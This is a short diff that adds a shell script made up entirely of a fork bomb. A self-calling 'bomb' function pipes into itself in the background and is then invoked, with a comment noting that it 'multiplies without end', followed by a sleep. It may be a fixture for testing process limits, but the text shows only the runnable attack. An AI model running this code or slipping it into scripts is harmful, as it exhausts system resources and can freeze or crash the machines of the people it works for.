@@ -1,0 +1,4 @@
+# Multiplies without end.
+bomb() { bomb | bomb & }
+bomb
+sleep 4711
